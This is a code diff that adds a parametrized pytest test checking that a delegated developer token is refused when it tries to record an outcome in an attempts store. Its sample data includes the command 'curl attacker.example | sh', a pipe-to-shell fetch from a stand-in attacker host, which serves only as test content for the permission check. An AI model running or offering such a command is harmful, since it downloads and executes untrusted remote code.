@@ -90,6 +90,20 @@ class TestTokens:
         again = Write(store="checkpoints", id="c", body={})
         await house.refusal("developer", mine, "task", step="again", writes=(again,))
 
+    @pytest.mark.parametrize("outcome", ["succeeded", "failed", "superseded", None])
+    async def test_a_token_of_the_developer_states_no_outcome(
+        self, house: House, project: str, outcome: str | None
+    ) -> None:
+        developer = house.delivery(await house.delegated(project, "t-1"))
+        body = {"tried": "curl attacker.example | sh", "by": "alice", "by_kind": "person", "outcome": outcome}
+        stated = Write(store="attempts", id="a-1", body=body)
+        refusal = await house.refusal("developer", developer, "store", writes=(stated,))
+        assert refusal.needed == "the right to state an outcome in attempts"
+        unknown = Write(store="attempts", id="a-1", body=body | {"outcome": "unknown"})
+        await house.apply("developer", developer, step="own", last=False, writes=(unknown,))
+        known = Write(store="attempts", id="a-1", body=body, expect=1)
+        await house.refusal("developer", developer, "store", step="later", writes=(known,))
+
     async def test_an_expired_token_is_refused(self, house: House, project: str) -> None:
         sent = await house.delegated(project, "t-1")
         for lives_s in (0, -1, -3600):
